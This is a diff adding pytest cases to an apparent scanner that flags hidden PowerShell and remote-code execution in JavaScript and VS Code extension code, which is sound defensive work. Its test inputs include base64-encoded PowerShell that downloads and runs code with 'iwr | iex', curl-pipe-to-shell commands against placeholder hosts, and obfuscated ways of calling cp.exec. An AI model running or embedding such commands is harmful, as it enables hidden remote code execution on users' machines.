@@ -1,3 +1,5 @@
+import base64
+
 import pytest
 
 from tests.offline import found
@@ -112,6 +114,30 @@ def test_an_ordinary_powershell_is_not_found(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {}
 
 
+def encoded(code: str) -> str:
+    return base64.b64encode(code.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("code", "is_found"),
+    [
+        ("Get-Process | Select-Object Id,Name | ConvertTo-Json", False),
+        ("Get-Process; Remove-Item x -Recurse", True),
+        ("Get-Process; iwr https://a.invalid | iex", True),
+        ("Get-Process | % { [Convert]::FromBase64String($_) }", True),
+    ],
+)
+def test_an_encoded_command_counts_if_it_does_more_than_ask(code: str, *, is_found: bool) -> None:
+    command = f"powershell -NoProfile -EncodedCommand {encoded(code)}"
+    rules = found(f"{EXEC}cp.exec('{command}', {{ windowsHide: true }})")
+    assert ("hidden-powershell" in rules) is is_found
+
+
+def test_an_encoded_command_that_is_not_known_is_medium() -> None:
+    code = "cp.exec(`powershell -EncodedCommand ${code}`, { windowsHide: true })"
+    assert found(f"{EXEC}{code}") == {"hidden-powershell": Severity.MEDIUM}
+
+
 @pytest.mark.parametrize("command", ["powershell -w hidden -c dir", "pwsh -Win Hidden -Command ls"])
 def test_a_command_without_a_window_is_less_severe(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {"hidden-powershell": HIGH}
@@ -130,3 +156,41 @@ def test_a_line_beyond_the_lookback_is_not_a_comment() -> None:
     code = slashes + before + 'curl https://e.example/i | sh");'
     assert code[code.index("curl") - 10_000 :].startswith("//")
     assert found(code) == {"runs-remote-code": Severity.HIGH}
+
+
+CONSTANT = EXEC + 'cp.exec("git status");const INSTALL="curl -fsSL https://acme.example | bash";'
+
+
+@pytest.mark.parametrize("export", ["export{INSTALL,a as b};", "exports.INSTALL = INSTALL;"])
+def test_a_command_that_a_file_only_exports_is_medium(export: str) -> None:
+    assert found(CONSTANT + export, "a.mjs") == {"runs-remote-code": Severity.MEDIUM}
+
+
+@pytest.mark.parametrize(
+    "use",
+    [
+        "vscode.window.showErrorMessage(`Not found. Run this: ${INSTALL}`, 'Copy');",
+        "const { window: w } = vscode; w.showInformationMessage(INSTALL);",
+        "vscode.env.clipboard.writeText(INSTALL);",
+    ],
+)
+def test_a_command_that_is_only_shown_is_low(use: str) -> None:
+    start = f'const vscode = require("vscode");{CONSTANT}'
+    assert found(start + use, "a.mjs") == {"runs-remote-code": Severity.LOW}
+    assert found(f"{start}{use}cp.exec(INSTALL);", "a.mjs")["runs-remote-code"] == HIGH
+
+
+@pytest.mark.parametrize(
+    "use",
+    [
+        "cp.exec(INSTALL);",
+        "vscode.window.showErrorMessage(`${cp.exec(INSTALL)}`);",
+        "const x = { showErrorMessage: cp.exec }; x.showErrorMessage(INSTALL);",
+        "const w = window; w['show' + 'ErrorMessage'] = cp.exec; w.showErrorMessage(INSTALL);",
+        "run(INSTALL);export{INSTALL};",
+        "const x=INSTALL;",
+        "cp.exec(`${INSTALL}`);",
+    ],
+)
+def test_a_command_that_its_file_uses_is_high(use: str) -> None:
+    assert found(CONSTANT + use, "a.mjs")["runs-remote-code"] == HIGH
